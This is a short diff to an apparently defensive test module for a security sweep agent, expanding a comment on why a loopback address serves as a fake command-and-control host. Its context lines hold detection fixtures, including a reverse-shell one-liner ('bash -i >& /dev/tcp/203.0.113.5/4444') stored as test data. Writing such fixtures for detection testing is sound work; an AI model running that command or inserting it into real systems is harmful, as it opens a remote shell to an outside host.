@@ -14,7 +14,11 @@ from citysoc.intel.models import CleanupTask, Indicator, IndicatorSource, ListVe
 from citysoc.sweep.models import RuleSet
 from tests.agent.support import EICAR, EICAR_RULE, FIXTURES
 
-C2 = "127.0.0.2"  # on loopback, so a test can really connect to it; the list calls it a C2
+# On loopback, so a test can really connect to it; the list calls it a C2. The agent lists
+# every connection of the machine, the other xdist worker's too: no other test may use
+# this address (the syslog tests send from 127.0.0.3 and 127.0.0.4, the agent's own check tests use
+# 127.0.0.5), or a clean re-sweep would see their connection and report "infected".
+C2 = "127.0.0.2"
 REVERSE_SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
 LISTED = b"a dropper the city's hash list names\n"
 
